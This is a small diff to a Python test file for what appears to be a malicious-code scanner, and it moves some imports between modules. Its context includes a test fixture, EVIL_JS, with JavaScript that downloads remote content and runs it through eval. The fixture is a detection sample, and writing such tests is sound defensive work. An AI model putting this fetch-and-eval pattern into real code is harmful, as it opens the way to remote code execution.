@@ -14,7 +14,8 @@ from dulwich.refs import Ref
 from dulwich.repo import Repo
 
 from impextech.vet.engine import scan_path
-from impextech.vet.sources import InputError, Limits, SourceFile, iter_directory, iter_tar, iter_zip
+from impextech.vet.items import InputError, Limits, SourceFile
+from impextech.vet.sources import iter_directory, iter_tar, iter_zip
 
 EVIL_JS = b'const axios = require("axios");\naxios.get(u).then((res) => { eval(res.data); });\n'
 
